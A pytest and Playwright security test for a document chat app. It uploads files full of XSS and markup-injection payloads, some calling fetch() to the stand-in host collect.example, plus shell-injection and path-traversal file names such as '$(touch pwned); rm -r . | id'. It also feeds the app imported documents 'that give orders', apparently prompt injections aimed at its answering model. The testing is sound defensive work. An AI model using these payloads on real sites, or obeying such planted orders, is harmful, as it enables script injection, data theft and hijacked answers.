"""Documents and file names that would run script or forge the page, many at once, in a real headless Chromium.

A witness counts what none of them may bring about: dialogs, requests to other hosts, complaints of the content policy,
elements that act, forged elements, another title or address, windows, and a canary. A second test shows that each of
its counters can rise.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html import escape
from typing import TYPE_CHECKING, Any

import pytest
from hostile import FACT, HOSTILE, Hostile
from visiting import Served, Visitor, wait_until

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Dialog, Page

pytestmark = pytest.mark.browser

EVIL = "https://collect.example"
DO = f"window.pwned=1;alert(1);fetch('{EVIL}/f')"
AT_ONCE = 15
"""How many files one browser adds; there may be a limit."""

MARKUP = (
    f"<script>{DO}</script>",
    f'<img src=x onerror="{DO}">',
    f'<img src="{EVIL}/i.gif">',
    f'<svg onload="{DO}"><script>{DO}</script></svg>',
    f'<svg><animate onbegin="{DO}" attributeName=x dur=1s></svg>',
    f'<iframe srcdoc="<script>parent.{DO}</script>"></iframe>',
    f'<iframe src="javascript:{DO}"></iframe>',
    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    f'<a href="javascript:{DO}" data-forged>a map</a>',
    f'<a class="footnote" href="#source" data-answer="x" data-citation="1" data-forged onclick="{DO}">1</a>',
    f'"><script>{DO}</script>',
    f"'><img src=x onerror='{DO}'>",
    f'" onmouseover="{DO}" data-forged="',
    f"' autofocus onfocus='{DO}' x='",
    f"</p></article></div><script>{DO}</script>",
    f"</title></head><body onload='{DO}'>",
    f"</textarea></script><script>{DO}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={DO}>">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{DO}">',
    f"<!--><img src=x onerror={DO}>-->",
    f"<![CDATA[<script>{DO}</script>]]>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={DO}&amp;gt;",
    f"＜script＞{DO}＜／script＞",
    f"\\u003cscript\\u003e{DO}\\x3c/script\\x3e",
    f"<details open ontoggle='{DO}' data-forged><summary>more</summary></details>",
    f"<video><source onerror='{DO}'></video><audio src={EVIL}/a onerror={DO}>",
    f'<style>@import "{EVIL}/c.css"; body {{ background: url({EVIL}/b.png) }}</style>',
    f"<link rel=stylesheet href={EVIL}/l.css><base href={EVIL}/>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/m">',
    f"<form action={EVIL} data-forged><input autofocus onfocus='{DO}'><button>Ask</button></form>",
    f"![a picture]({EVIL}/p.png) ![b][p]",
    f"[a map](javascript:{DO}) <javascript:{DO}> [c](data:text/html,<script>{DO}</script>)",
    "{{7*7}} {{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} #{7*7} <%= 7*7 %>",
    f"</style><script>document.title='Bank';location='{EVIL}/t'</script>",
    f'"}}]]}};{DO};//',
    "\u202e<tpircs>1=denwp.wodniw\u202c \u2066x\u2069",
    "<div data-forged class='answer' data-answer='x' data-marks='{}' style='position:fixed;inset:0'>Log in</div>",
)
"""What stands in headings, titles, bylines and sentences of the documents made here."""

NAMES = (
    f"<img src=x onerror={DO}>",
    f'"><script>{DO}</script>',
    f"javascript:{DO}",
    f"[a map](javascript:{DO})",
    f"![x]({EVIL}/p.png)",
    f"data:text/html,<script>{DO}</script>",
    f"{EVIL}/n",
    "statement \u202efdp",
    "\u2067\u2066turned\u2069\u2069",
    'it\'s "quoted" `well` «so»',
    f"two\nlines\r\nContent-Type: text/html\r\n\r\n<script>{DO}</script>",
    "{{7*7}}",
    "${window.pwned=1}",
    "<%= 7*7 %> #{7*7}",
    "long " * 60,
    "x" * 251,
    "🌹" * 60,
    "../../../../up",
    "..\\..\\back",
    "/etc/passwd",
    "%2e%2e%2f%3Cscript%3E",
    f"&lt;svg onload={DO}&gt;",
    f"＜script＞{DO}＜／script＞",
    f"a' onmouseover='{DO}",
    f'a" autofocus onfocus="{DO}" data-forged="',
    f"</title><script>{DO}</script>",
    "__proto__",
    "constructor",
    "CON",
    "-rf *",
    ".hidden",
    " ",
    "$(touch pwned); rm -r . | id",
    "nul\x00byte",
    "\u200b\u200b",
    "line\u2028separator",
    "hanoi-summit",
    "index",
)
"""What the files are called, before the ending; none of them is tidied on its way into the browser."""

WATCH = """
(() => {
  const watched = (window.watched = []);
  const acting = "script, iframe, frame, object, embed, img, base, meta, video, audio, source, portal, [data-forged]";
  const runs = ({ name, value }) => name.startsWith("on") || /^\\s*(javascript|vbscript|data:text)/i.test(value);
  const look = (element) => {
    if (!element.matches(acting) && ![...element.attributes].some(runs)) return;
    watched.push([element.hasAttribute("data-forged") ? "forged" : "elements", element.outerHTML.slice(0, 200)]);
  };
  const notice = (changes) => {
    for (const { type, target, attributeName, addedNodes } of changes) {
      const attribute = type === "attributes" && target.getAttributeNode(attributeName);
      if (attribute && (runs(attribute) || attributeName === "data-forged")) look(target);
      for (const node of addedNodes)
        if (node instanceof Element) for (const each of [node, ...node.querySelectorAll("*")]) look(each);
    }
  };
  const observer = new MutationObserver(notice);
  observer.observe(document, { subtree: true, childList: true, attributes: true });
  document.addEventListener("securitypolicyviolation", (event) => watched.push(["policy", event.blockedURI]));
  window.flush = () => {
    notice(observer.takeRecords());
    const turned = (words) => /[\\u202d\\u202e]/.test(words);
    for (const each of document.querySelectorAll("body, body *")) {
      const words = each.matches("input:not([type=file])") ? each.value : [...each.childNodes].map((node) => node.nodeValue).join("");
      if (turned(words) && each.tagName !== "SCRIPT") watched.push(["overrides", each.outerHTML.slice(0, 200)]);
    }
    return watched.splice(0);
  };
})();
"""
"""Runs in the page before anything else: notes every element that acts, even one that is gone again at once."""

KINDS = (
    "dialogs",
    "requests",
    "policy",
    "errors",
    "elements",
    "forged",
    "overrides",
    "titles",
    "addresses",
    "windows",
    "canary",
)


RETURNING = "coming back to the conversation"


@dataclass(frozen=True, slots=True)
class Attack:
    """A file to add, and the question whose answer should quote it. ``town`` stands in no other file."""

    name: str
    content: str
    town: str
    question: str


@dataclass
class Witness:
    """One browser at the page, and what happened there that should not: its kind, what, and while doing what."""

    context: BrowserContext
    address: str
    doing: str = "opening"
    happened: list[tuple[str, str, str]] = field(default_factory=list)
    own: set[str] = field(default_factory=set, repr=False)
    """The elements that the page had before anything was added."""

    def __post_init__(self) -> None:
        self.context.add_init_script(WATCH)
        self.page: Page = self.context.new_page()
        self.page.set_default_timeout(30_000)
        self.context.on("request", lambda request: self._ask_whom(request.url))
        self.context.on("page", lambda page: self.note("windows", page.url))
        self.page.on("websocket", lambda socket: self._ask_whom(socket.url))
        self.page.on("dialog", self._dismiss)
        self.page.on("pageerror", lambda error: self.note("errors", str(error)))
        self.page.on("console", lambda line: self._hear(line.text) if line.type == "error" else None)
        self.page.goto(self.address)
        self.page.wait_for_selector("#source .document", state="attached")
        self.own = {what for kind, what in self.page.evaluate("flush()") if kind == "elements"}
        self.page.on("framenavigated", lambda frame: self._arrive(frame.url))

    def note(self, kind: str, what: str) -> None:
        self.happened.append((kind, " ".join(what.split())[:200], self.doing))

    def _dismiss(self, dialog: Dialog) -> None:
        self.note("dialogs", dialog.message)
        dialog.dismiss()

    def _ask_whom(self, url: str) -> None:
        if not url.startswith((self.address, "data:", "blob:")):
            self.note("requests", url)

    def _hear(self, complaint: str) -> None:
        if self.doing == RETURNING and re.search("signal is aborted|errored out", complaint):
            return  # Gradio's own script, of what was still under way when the page was left
        self.note("policy" if "Content Security Policy" in complaint else "errors", complaint)

    def _arrive(self, url: str) -> None:
        if url.rstrip("/") != self.address:
            self.note("addresses", url)

    def look(self) -> None:
        """Note what can be seen now, and what was seen in passing since."""
        for kind, what in self.page.evaluate("flush()"):
            if what not in self.own:
                self.note(kind, what)
        if self.page.title() != "Footnote":
            self.note("titles", self.page.title())
        if self.page.evaluate("'pwned' in window"):
            self.note("canary", "window.pwned")

    def tell(self) -> str:
        """What happened, how often, and while doing what for the first time."""
        times = Counter((kind, what) for kind, what, _ in self.happened)
        first = {(kind, what): doing for kind, what, doing in reversed(self.happened)}
        return "\n".join(
            f"{kind}: {what} ({times[kind, what]} times, first {first[kind, what]})" for kind, what in times
        )

    def counts(self) -> dict[str, int]:
        """How often each kind of thing happened."""
        found = Counter(kind for kind, _, _ in self.happened)
        return {kind: found[kind] for kind in KINDS}


@pytest.fixture
def witness(browser: Browser, served: Served) -> Iterator[Witness]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, reduced_motion="reduce")
    yield Witness(context, served.address)
    context.close()


# ---- the files ----


def in_text(sentence: str, words: str) -> tuple[str, str]:
    return ".txt", f"{words}\n\n{sentence}\n\n{words}\n"


def in_headings(sentence: str, words: str) -> tuple[str, str]:
    return ".md", f"# {words}\n\n## {words}\n\n{sentence}\n"


def in_a_byline(sentence: str, words: str) -> tuple[str, str]:
    said = json.dumps(words, ensure_ascii=False)
    return ".md", f"---\ntitle: {said}\nauthor: {said}\ndate: {said}\n---\n\n{sentence}\n"


def in_a_page(sentence: str, words: str) -> tuple[str, str]:
    said = escape(words)
    head = f'<meta charset="utf-8"><title>{said}</title><meta name="author" content="{said}">'
    body = f"<h1>{said}</h1><p>By {said}</p><p>{escape(sentence)}</p><h2>{said}</h2><p>{words}</p>"
    return ".html", f"<!doctype html><html><head>{head}</head><body>{body}</body></html>"


def in_a_table(sentence: str, words: str) -> tuple[str, str]:
    written = io.StringIO()
    csv.writer(written).writerows([["what", words], [sentence, words]])
    return ".csv", written.getvalue()


def in_a_letter(sentence: str, words: str) -> tuple[str, str]:
    sender = words.replace("\\", "\\\\").replace('"', '\\"')
    head = f'From: "{sender}" <keeper@skarn.example>\nSubject: {words}\nDate: Wed, 2 Mar 2011 10:00:00 +0000\n'
    return ".eml", f"{head}Content-Type: text/plain; charset=utf-8\n\n{sentence}\n\n{words}\n"


PLACES: tuple[Callable[[str, str], tuple[str, str]], ...] = (
    in_text,
    in_headings,
    in_a_byline,
    in_a_page,
    in_a_table,
    in_a_letter,
)
FITTING = ("head", "markers", "links", "images", "proof", "lead")
"""The kinds of the other hostile documents that have something to show on a page."""


def make_attacks() -> list[Attack]:
    """Markup in every place in turn, and the documents that give orders; each under a hostile name.

    Of a name with slashes only the end is kept, so that the town is added, lest two files of one upload be called alike.
    """
    first, last = "Bar Dol Fen Gri Hal Ker Lun Mor Pel Tas".split(), "berg dale ford gard mouth nes sund vik".split()
    towns = (start + end for end, start in itertools.product(last, first))
    places = itertools.cycle(PLACES)
    files: list[tuple[str, str, str, str]] = []
    for words in MARKUP:
        town = next(towns)
        sentence = f"The lighthouse of {town}, which sailors called {words}, was built in 1871."
        files.append((*next(places)(sentence, words), town, f"When was the lighthouse of {town} built?"))
    for document in HOSTILE:
        if document.kind in FITTING:
            town = next(towns)
            content, asked = (words.replace("Skarn", town) for words in (document.content, find_order(document)))
            files.append((document.suffix, content, town, asked))
    attacks = []
    for number, (suffix, content, town, asked) in enumerate(files):
        stem = NAMES[number % len(NAMES)]
        name = f"{stem} {town}" if "/" in stem or number >= len(NAMES) else stem
        attacks.append(Attack(name + suffix, content, town, asked))
    return attacks


def find_order(document: Hostile) -> str:
    """The longest line of a document beside the fact, which is most often the order: asking with it finds it."""
    lines = [line for line in document.content.splitlines() if FACT not in line]
    return max(lines, key=len)[:400]


ATTACKS = make_attacks()
BATCHES = [ATTACKS[at : at + AT_ONCE] for at in range(0, len(ATTACKS), AT_ONCE)]


# ---- what they bring about ----


@pytest.mark.timeout(900)
@pytest.mark.parametrize("batch", BATCHES, ids=[f"batch-{number}" for number in range(1, len(BATCHES) + 1)])
def test_nothing_acts_whatever_is_added_opened_asked_and_pointed_at(
    witness: Witness, batch: list[Attack], record_property: Callable[[str, object], None]
) -> None:
    visitor = Visitor(witness.page, witness.address)
    reports = add(witness, batch)
    opened = open_all(witness, visitor, len(batch))
    quoted = 0
    for attack in batch:
        witness.doing = f"asking about {attack.name!r}"
        answer = visitor.ask(attack.question)
        quoted += attack.town in point_at_footnote(witness, answer)
    assert quoted > len(batch) / 2, "what is asked for is what the attacks say"
    witness.doing = RETURNING
    witness.page.reload()
    witness.page.wait_for_selector("#chat .asked")
    witness.page.wait_for_selector("#source .document", state="attached")
    witness.look()
    assert re.search("pwned|alert|collect", witness.page.inner_text("#chat")), "what the attacks say is shown, as words"
    told = {"files": len(reports), "opened": opened, "quoted": quoted} | witness.counts()
    print(told)
    record_property("counts", json.dumps(told))
    assert not witness.happened, witness.tell()


def add(witness: Witness, batch: list[Attack]) -> list[str]:
    """Upload all files of a batch at once; every one must be taken in. Gives the reports' lines."""
    names = [attack.name for attack in batch]
    witness.doing = f"adding {names}"
    files: Any = [
        {"name": attack.name, "mimeType": "text/plain", "buffer": attack.content.encode()} for attack in batch
    ]
    witness.page.locator("#upload input[type=file], #adding input[type=file]").first.set_input_files(files)
    witness.page.wait_for_function(
        "n => document.querySelectorAll('#report .report:not(.working, .hint)').length >= n",
        arg=len(batch),
        timeout=120_000,
    )
    witness.page.wait_for_selector("#upload:not([disabled])")
    reports = witness.page.locator("#report .report").all_inner_texts()
    assert witness.page.locator("#report .report.added").count() == len(batch), reports
    witness.page.click("[data-open-panel=library]")
    witness.page.hover("#documents .title >> nth=-1")
    witness.look()
    witness.page.keyboard.press("Escape")
    witness.look()
    return reports


def open_all(witness: Witness, visitor: Visitor, count: int) -> int:
    """Open every added document in the source column, by the chooser; how many there were."""
    shown = set()
    for number in range(count + 1):  # the first is not of ours
        chosen = (number + 1) % (count + 1)  # one after the other, from the first that is not shown
        name = witness.page.locator("[data-chooser] option").nth(chosen).inner_text()
        witness.doing = f"opening {name!r}"
        before = visitor.shown()
        if witness.page.locator("[data-chooser]").evaluate("each => each.selectedIndex") == chosen:
            shown.add(before)
            continue
        witness.page.select_option("[data-chooser]", index=chosen)
        witness.page.wait_for_function(
            "before => ![before, undefined].includes(document.querySelector('#source .document')?.dataset.document)",
            arg=before,
        )
        shown.add(visitor.shown())
        witness.look()
    assert len(shown) == count + 1
    return count


def point_at_footnote(witness: Witness, answer: Any) -> str:
    """Open the preview of the answer's first footnote and follow it, if it has one; what stands there and in the answer."""
    footnotes = answer.locator("a.footnote")
    said = str(answer.inner_text())
    if footnotes.count():
        # When suggestions come, what the pointer stands over moves away from under it.
        for _ in range(20):
            footnotes.first.hover()
            witness.page.wait_for_timeout(300)
            if witness.page.is_visible("#preview"):
                break
            witness.page.mouse.move(2, 2)
        assert witness.page.is_visible("#preview")
        said += witness.page.inner_text("#preview")
        footnotes.first.click()
        witness.page.hover("#source mark")
        witness.page.mouse.move(2, 2)
        witness.page.wait_for_selector("#preview", state="hidden")
    witness.look()
    return said


# ---- the witness itself ----


def test_there_are_many_attacks_of_every_kind() -> None:
    assert len(ATTACKS) >= 60
    assert len({attack.name for attack in ATTACKS[: len(NAMES)]}) == len(NAMES) >= 30
    assert len({attack.town for attack in ATTACKS}) == len(ATTACKS)
    assert {re.sub(r".*\.", "", attack.name, flags=re.DOTALL) for attack in ATTACKS} >= set(
        "txt md html csv eml".split()
    )
    assert all(attack.town in attack.content for attack in ATTACKS)


PLANTED = {
    "dialogs": "setTimeout(() => alert(1))",
    "requests": f"location.assign('{EVIL.replace('https', 'http')}/gone')",
    "policy": f"new Image().src = '{EVIL}/i.png'",
    "errors": "setTimeout(() => undefinedThing())",
    "elements": "document.body.append(document.createElement('{0}'))",
    "forged": "document.querySelector('#source').insertAdjacentHTML('beforeend', '<b data-forged>x</b>')",
    "overrides": "document.querySelector('#source').append('\\u202egnorw')",
    "titles": "document.title = 'Bank'",
    "addresses": "history.pushState({}, '', '/elsewhere')",
    "windows": "window.open('about:blank')",
    "canary": "window.pwned = 1",
}
ACTING = [
    *(
        (kind, script)
        for kind, script in PLANTED.items()
        if kind != "elements"
    ),
    *(("elements", PLANTED["elements"].format(name)) for name in ("script", "iframe", "object", "embed", "img")),
    *(
        ("elements", f"document.querySelector('#source').insertAdjacentHTML('beforeend', `{html}`)")
        for html in ("<svg onload='1'></svg>", "<p onclick='1'>x</p>", "<a href=' javascript:1'>x</a>")
    ),
    ("elements", "document.querySelector('#source').setAttribute('onclick', '1')"),
    ("elements", "{ const gone = document.body.appendChild(document.createElement('iframe')); gone.remove(); }"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "script"), ACTING, ids=[f"{kind}-{at}" for at, (kind, _) in enumerate(ACTING)])
def test_the_witness_sees_what_is_planted(witness: Witness, kind: str, script: str) -> None:
    witness.look()
    assert set(witness.counts().values()) == {0}, witness.happened
    witness.doing = "planting"
    witness.page.evaluate(f"() => {{ {script} }}")
    wait_until(lambda: has_seen(witness, kind))
    assert (kind, "planting") in {(seen, doing) for seen, _, doing in witness.happened}


def has_seen(witness: Witness, kind: str) -> bool:
    witness.page.wait_for_timeout(50)  # lets the page's events come in
    if kind != "requests":  # then the page is gone
        witness.look()
    return witness.counts()[kind] > 0
